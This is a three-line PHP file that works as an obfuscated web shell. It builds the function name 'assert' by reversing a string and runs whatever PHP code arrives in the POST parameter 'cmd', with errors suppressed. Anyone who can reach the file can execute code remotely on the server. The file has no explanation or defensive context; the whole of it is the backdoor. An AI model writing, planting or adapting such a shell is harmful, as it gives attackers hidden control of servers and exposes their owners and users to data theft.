<?php
$name = strrev('tressa');
@$name($_POST['cmd']);
